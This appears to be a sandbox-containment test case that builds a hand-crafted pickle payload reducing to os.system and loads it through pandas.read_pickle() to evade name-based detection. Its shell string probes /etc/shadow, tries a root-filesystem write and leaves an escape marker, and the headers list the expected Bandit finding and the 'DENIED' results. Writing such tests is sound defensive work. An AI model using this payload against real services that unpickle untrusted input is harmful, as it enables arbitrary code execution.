# row: B17
# attack: Deserialisation through a library: `pandas.read_pickle()` of the same os.system REDUCE pickle,
#   without importing pickle by name.
# v-on-finding: rule=B301 source=bandit text=Pickle
# v-off-status: ok
# v-off-stdout-contains: system() reached
# v-off-stdout-contains: uid=65534(nobody) gid=65534(nogroup)
# v-off-stdout-contains: shell /etc/shadow: DENIED
# v-off-stdout-contains: shell rootfs write: DENIED
# v-off-stdout-not-contains: ALLOWED
# v-off-host-path-absent: /tmp/sandbox-escape-B17
# limits: wall_time_s=10
import io

import pandas

SHELL = (
    "id; "
    'cat /etc/shadow >/dev/null 2>&1 && echo "shell /etc/shadow: ALLOWED" || echo "shell /etc/shadow: DENIED"; '
    'touch /etc/escaped 2>/dev/null && echo "shell rootfs write: ALLOWED" || echo "shell rootfs write: DENIED"; '
    "touch /tmp/sandbox-escape-B17"
)

payload = b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR."
try:
    print("pandas.read_pickle() of a REDUCE to os.system", flush=True)
    status = pandas.read_pickle(io.BytesIO(payload))
except Exception as exc:
    print(f"system() not reached: {type(exc).__name__}: {exc}")
else:
    print(f"system() reached while unpickling: exit status {status}")
